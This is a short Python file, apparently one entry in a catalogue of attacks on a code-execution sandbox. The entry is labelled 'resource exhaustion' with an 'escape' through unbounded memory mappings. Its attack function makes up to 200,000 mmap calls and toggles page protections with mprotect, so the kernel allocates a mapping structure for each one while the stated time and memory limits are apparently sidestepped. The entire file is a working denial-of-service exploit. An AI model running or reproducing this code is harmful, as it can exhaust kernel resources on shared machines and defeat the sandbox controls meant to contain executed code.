"""Class: resource exhaustion. Source: own find. Escape: mappings without end, each a structure in
the kernel.
Limits: timeout_s=2, memory_bytes=1 << 28
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    libc.mmap.restype = ctypes.c_void_p
    for number in range(200_000):
        at = libc.mmap(None, 8192, 3 if number % 2 else 0, 0x22, -1, 0)
        if not at or at == 2**64 - 1:
            raise MemoryError
        libc.mprotect(ctypes.c_void_p(at), 4096, 1)
